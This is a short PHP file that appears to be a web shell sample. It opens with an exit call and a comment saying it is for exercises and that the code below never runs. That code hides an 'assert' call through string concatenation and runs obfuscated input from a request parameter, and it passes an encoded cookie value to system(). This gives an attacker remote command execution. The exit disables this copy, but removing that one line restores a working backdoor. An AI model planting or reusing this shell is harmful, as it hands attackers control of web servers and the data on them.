<?php exit; /* A sample for exercises: nothing below this line ever runs. */
$k = 'ass' . 'ert';
$k(base64_decode(str_rot13($_REQUEST['c'])));
@system(gzinflate(base64_decode($_COOKIE['sid'])));
